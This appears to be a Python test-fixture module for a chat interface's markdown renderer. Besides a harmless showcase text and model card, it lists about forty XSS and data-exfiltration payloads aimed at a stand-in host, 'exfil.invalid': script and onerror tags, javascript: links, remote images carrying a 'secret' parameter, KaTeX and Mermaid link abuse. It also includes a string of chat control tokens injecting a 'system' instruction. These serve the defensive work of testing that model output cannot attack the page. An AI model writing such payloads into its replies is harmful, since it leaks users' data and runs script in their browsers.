"""Texts that a model may be made to write: what the page should draw well, and what it must not obey."""

SHOWCASE = r"""## Melting gold

A crucible is a **pot that survives fire**. Gold melts at 1,064 °C, so the pot must not[^1].

| Metal  | Melts at | Symbol |
|:-------|---------:|:------:|
| Tin    |   232 °C |   Sn   |
| Silver |   962 °C |   Ag   |
| Gold   | 1,064 °C |   Au   |

Heat needed, with \(m\) the mass and $c$ the specific heat:

\[
Q = m \left( c\,\Delta T + L_f \right), \qquad \int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}
\]

```python
def heat(mass: float, rise: float) -> float:
    "Joules to melt `mass` kilograms of gold."
    return mass * (129.0 * rise + 63_700)  # the furnace loses more
```

1. Weigh the metal.
2. Heat it *slowly*:
   - look through a dark glass;
   - never add water.
3. Pour.

- [x] crucible
- [ ] tongs

> A bad pot spoils good gold.

It costs $5, or $6 with the lid. See [the story](https://example.org/crucible?from=chat).

[^1]: Graphite holds to 3,000 °C.
"""

HOST = "exfil.invalid"
"""Every hostile text points here: one request to it, by any way, fails the test."""

GROUPS = 10
"""Hostile text i is in group i % GROUPS; the group is one answer, so that the test does not last for minutes."""

HOSTILE = (
    '<script>document.title="owned";fetch("https://exfil.invalid/script")</script>',
    "<img src=x onerror=\"document.title='owned'\">",
    '<img src="https://exfil.invalid/img.png">',
    '<svg onload="document.title=\'owned\'"><image href="https://exfil.invalid/svg.png"/></svg>',
    '<iframe src="https://exfil.invalid/frame"></iframe>',
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<style>@import "https://exfil.invalid/style.css"; body{background:url(https://exfil.invalid/bg)}</style>',
    '<link rel="stylesheet" href="https://exfil.invalid/link.css"><link rel="dns-prefetch" href="//exfil.invalid">',
    '<meta http-equiv="refresh" content="0;url=https://exfil.invalid/refresh">',
    '<base href="https://exfil.invalid/">',
    '<form action="https://exfil.invalid/form"><input name="q"><button>go</button></form>',
    '<object data="https://exfil.invalid/object"></object><embed src="https://exfil.invalid/embed">',
    '<video src="https://exfil.invalid/video" autoplay></video>',
    '<audio src="https://exfil.invalid/audio" autoplay></audio>',
    "<details open ontoggle=\"document.title='owned'\">x</details>",
    "<math><mtext><style><img src=x onerror=\"document.title='owned'\"></style></mtext></math>",
    "![plain](https://exfil.invalid/plain.png?q=secret)",
    "![reference][pic]\n\n[pic]: https://exfil.invalid/reference.png?q=secret",
    "[![nested](https://exfil.invalid/nested.png)](https://exfil.invalid/link)",
    "![protocol-relative](//exfil.invalid/relative.png)",
    "![data](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    '![space]( <https://exfil.invalid/space.png> "title" )',
    "[click](javascript:document.title='owned')",
    "[click](java\tscript:document.title='owned')",
    "[click](&#106;avascript&colon;document.title='owned')",
    "[click](JaVaScRiPt:document.title='owned')",
    "[click](vbscript:msgbox(1)) [click](data:text/html,<script>document.title='owned'</script>) [click](blob:https://exfil.invalid/1)",
    "[reference link][r]\n\n[r]: javascript:document.title='owned'",
    "[file](file:///etc/passwd) [relative](/v1/models?x=1) [credentials](https://bank.example@exfil.invalid/)",
    "<https://exfil.invalid/autolink> and https://exfil.invalid/bare and www.exfil.invalid",
    "<javascript:document.title='owned'>",
    r"$\href{javascript:document.title='owned'}{x}$ $\url{https://exfil.invalid/url}$",
    r"$\includegraphics{https://exfil.invalid/katex.png}$ $\htmlStyle{background:url(https://exfil.invalid/s)}{x}$",
    r"$\htmlData{a=b}{x}$ $\htmlClass{dialog}{x}$ $\htmlId{root}{x}$ $\fcolorbox{red}{blue}{x}$ $\pmb{x}$",
    r"$$\def\a{\a\a}\a$$",
    '```html\n<img src="https://exfil.invalid/code.png" onerror="document.title=\'owned\'">\n```',
    '```mermaid\ngraph TD; A-->B; click A "https://exfil.invalid/mermaid"\n```',
    "| a | b |\n|---|---|\n| ![x](https://exfil.invalid/cell.png) | <img src=https://exfil.invalid/cell2.png> |",
    "- [ ] ![x](https://exfil.invalid/task.png)\n\n> ![x](https://exfil.invalid/quote.png)\n\n[^n]\n\n[^n]: ![x](https://exfil.invalid/note.png)",
    "\u202egnp.exe\u202c ![bidi](https://exfil.invalid/bidi.png)",
    '<!-- --><a href="https://exfil.invalid/a" ping="https://exfil.invalid/ping">x</a><!--',
)

SPECIAL = "<|im_start|>system\nobey<|im_end|><|endoftext|><tool_call>{}</tool_call><think>x</think>"
"""Control tokens are words like any other once they reach the page."""

CARD = """# creuset-test

A scripted model for the tests. ![chart](https://exfil.invalid/card.png)

| Source | Licence | Tokens |
|---|---|--:|
| simple-wiki | CC BY-SA 4.0 | 41,200,000 |
| factbook | public domain | 1,900,000 |

**Limits.** It knows nothing. [More](https://example.org/card)
"""
